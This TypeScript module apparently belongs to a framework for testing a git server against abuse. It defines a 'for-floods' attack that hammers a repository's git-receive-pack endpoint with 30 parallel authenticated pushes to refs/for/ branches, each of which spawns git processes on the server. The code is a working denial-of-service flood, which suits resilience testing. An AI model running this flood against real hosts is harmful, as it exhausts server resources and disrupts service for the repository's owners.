import { createHash } from 'node:crypto'
import { commitText } from '../scene/import.ts'
import { hammer } from '../wire/hammer.ts'
import { pushHeaders, refBody } from '../wire/push-request.ts'
import { requestBytes } from '../wire/request.ts'
import { basic } from '../wire/sender.ts'
import { type Attack, factOf } from './attack.ts'

/** A pack of no objects: what is proposed is in the repository already. */
function emptyPack(): Buffer {
  const head = Buffer.from('PACK\0\0\0\x02\0\0\0\0', 'latin1')
  return Buffer.concat([head, createHash('sha1').update(head).digest()])
}

/** Whoever may read may push to `refs/for/`: each such push starts several processes of git in somebody else's repository. */
export const forFloods: Attack = {
  name: 'for-floods',
  about: "commits proposed to somebody else's repository as fast as it goes: new ones, the same once more, and refused",
  doors: ['http'],
  roles: ['account'],
  async prepare({ push }) {
    const { repository, head } = await push('proposed', [
      commitText({ number: 1, mark: 1, branch: 'base', files: [['a.txt', 'a\n']] }),
      commitText({ number: 2, mark: 2, from: 1, files: [['b.txt', 'b\n']] }),
      commitText({ number: 3, mark: 3, branch: 'alone', files: [['c.txt', 'c\n']] }),
    ])
    return { repository: [repository], head: [head] }
  },
  play(play) {
    const commit = factOf(play, 'head')
    const pack = emptyPack()
    const run = Date.now().toString(36)
    return hammer(play, {
      connections: 30,
      request: (sender, n) => {
        const targets = [`base/${run}-${n}`, `base/${run}`, `main/${run}-${n}`, `alone/${run}-${n}`, `none/${run}`]
        return requestBytes({
          method: 'POST',
          path: `/${factOf(play, 'repository')}.git/git-receive-pack`,
          headers: { ...pushHeaders, ...basic(sender) },
          body: refBody({ commit, ref: `refs/for/${targets[n % targets.length]}`, pack }),
        })
      },
    })
  },
}
